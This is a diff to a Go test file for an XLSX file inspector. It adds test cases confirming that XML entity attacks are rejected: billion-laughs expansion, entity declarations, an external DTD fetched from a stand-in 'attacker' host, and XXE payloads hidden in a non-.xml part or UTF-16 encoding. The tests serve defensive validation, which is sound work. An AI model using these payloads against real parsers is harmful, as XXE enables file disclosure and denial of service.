@@ -468,6 +468,8 @@ func TestInspectXMLEntities(t *testing.T) {
 		{"billion laughs in shared strings", minimalParts(sheetXMLOf(""), lol.String())},
 		{"entity only, lower case", minimalParts(sheetXMLOf(""), `<!entity x "y"><sst/>`)},
 		{"DTD in the relationships", append(minimalParts(sheetXMLOf(""), ""), part{"xl/worksheets/_rels/sheet1.xml.rels", []byte(`<!DOCTYPE r SYSTEM "http://attacker/x.dtd"><Relationships/>`)})},
+		{"DTD in a part not named .xml", append(minimalParts(sheetXMLOf(""), ""), part{"xl/worksheets/sheet9.dat", []byte(xxe)})},
+		{"UTF-16 XML", minimalParts(string(append([]byte{0xFF, 0xFE}, utf16le(xxe)...)), "")},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			_, err := inspectFile(t, writeZip(t, tc.parts), "return.xlsx", Limits{})
